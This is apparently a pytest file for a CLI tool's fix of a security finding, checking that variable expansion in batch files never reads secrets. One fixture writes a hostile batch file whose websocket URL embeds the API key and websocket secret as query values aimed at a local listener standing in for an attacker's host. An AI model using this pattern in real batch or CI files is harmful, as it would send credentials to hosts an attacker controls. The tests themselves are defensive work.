"""Issue 23, finding 7: ``${VAR}`` in a batch file or ``--scenario`` reads only what the workflow
allows (``--allow-env NAME`` or a ``CEKURA_VAR_`` name), never a secret, so a batch file changed in a
pull request cannot send the API key or the websocket secret to a host of its choosing."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from cli_helpers import invoke
from fault_server import FaultServer

from cekura_wrapper.cli.inputs import InputError, load_batch

KEY, SECRET = "sk-live-finding-7", "ws-secret-finding-7"


class Listener:
    """A TCP listener on 127.0.0.1 that counts connections and keeps what they sent: the attacker's host."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self._socket.settimeout(0.05)
        self.port = self._socket.getsockname()[1]
        self.received = b""
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self._socket.accept()
            except TimeoutError:
                continue
            self.connections += 1
            with connection:
                connection.settimeout(1)
                with contextlib.suppress(OSError):
                    self.received += connection.recv(65536)

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        self._socket.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    running = Listener()
    yield running
    running.close()


def hostile_batch(tmp_path: Path, port: int) -> Path:
    batch = tmp_path / "suite.yaml"
    batch.write_text(
        "frequency: 1\nscenarios:\n"
        f'  - websocket_url: "ws://127.0.0.1:{port}/x?k=${{CEKURA_API_KEY}}&s=${{CEKURA_WEBSOCKET_SECRET}}"\n'
        "    scenario: 101\n"
    )
    return batch


def test_a_batch_file_cannot_send_the_secrets_to_its_own_host(tmp_path: Path, listener: Listener) -> None:
    batch = hostile_batch(tmp_path, listener.port)
    env = {key: value for key, value in os.environ.items() if not key.startswith(("GITHUB_", "CEKURA_"))} | {
        "CEKURA_API_KEY": KEY,
        "CEKURA_WEBSOCKET_SECRET": SECRET,
    }
    allowing = ("--allow-env", "CEKURA_API_KEY", "--allow-env", "CEKURA_WEBSOCKET_SECRET")
    with FaultServer() as cekura:
        env["CEKURA_BASE_URL"] = cekura.url
        done = [
            subprocess.run(
                [sys.executable, "-m", "cekura_wrapper", *args, "--batch", str(batch), *allowing],
                env=env,
                capture_output=True,
                text=True,
                timeout=120,
                check=False,
            )
            for args in (("preflight",), ("run", "--wait"))
        ]
        assert cekura.requests == []  # nothing was submitted either

    assert [process.returncode for process in done] == [2, 2], done[0].stderr
    assert listener.connections == 0 and KEY.encode() not in listener.received
    for process in done:
        assert f"{batch}:3: ${{CEKURA_API_KEY}} is never expanded" in process.stderr
        assert KEY not in process.stdout + process.stderr and SECRET not in process.stdout + process.stderr


@pytest.mark.parametrize("name", ["AGENT_TOKEN", "DB_PASSWORD", "signing_key", "AWS_SECRET", "TOKEN"])
def test_names_that_look_like_secrets_are_never_expanded_even_when_allowed(tmp_path: Path, name: str) -> None:
    with pytest.raises(InputError) as caught:
        load_batch(
            None, [f"101=wss://a.example/?t=${{{name}}}"], frequency=1, environ={name: "x"}, allow_env=[name]
        )
    [problem] = caught.value.problems
    assert problem.where == "--scenario #1" and f"${{{name}}} is never expanded" in problem.message


def test_a_name_neither_allowed_nor_prefixed_is_an_input_error_naming_the_flag(tmp_path: Path) -> None:
    batch = tmp_path / "batch.csv"
    batch.write_text("scenario,websocket_url,frequency\n101,wss://${HOME_HOST:-a.example}/chat,1\n")

    done = invoke(
        ["plan", "--batch", str(batch), "--scenario", "102=wss://${HOST}/", "--json"], env={"HOST": "h"}
    )

    assert done.exit_code == 2, done.output
    assert json.loads(done.stdout)["problems"] == [
        {
            "where": f"{batch}:2",
            "message": "${HOME_HOST} is not allowed: pass --allow-env HOME_HOST to read it from the environment, "
            "or name the variable CEKURA_VAR_HOME_HOST",
        },
        {
            "where": "--scenario #1",
            "message": "${HOST} is not allowed: pass --allow-env HOST to read it from the environment, "
            "or name the variable CEKURA_VAR_HOST",
        },
    ]


def test_allowed_and_prefixed_names_are_expanded(tmp_path: Path) -> None:
    batch = tmp_path / "batch.yaml"
    batch.write_text(
        "frequency: 1\nscenarios:\n"
        "  - {scenario: 101, websocket_url: 'wss://${AGENT_HOST}/a'}\n"
        "  - {scenario: 102, websocket_url: 'wss://${CEKURA_VAR_HOST}/b'}\n"
    )
    env = {"AGENT_HOST": "one.example", "CEKURA_VAR_HOST": "two.example"}

    done = invoke(["plan", "--batch", str(batch), "--json", "--allow-env", "AGENT_HOST"], env=env)

    assert done.exit_code == 0, done.output
    urls = [item["websocket_url"] for item in json.loads(done.stdout)["request"]["body"]["scenarios"]]
    assert urls == ["wss://one.example/a", "wss://two.example/b"]


def test_allow_env_takes_variable_names_only() -> None:
    done = invoke(["plan", "--scenario", "101=wss://a.example/", "--frequency", "1", "--allow-env", "A-B"])
    assert done.exit_code == 2 and "'A-B' is not a variable name" in done.stderr
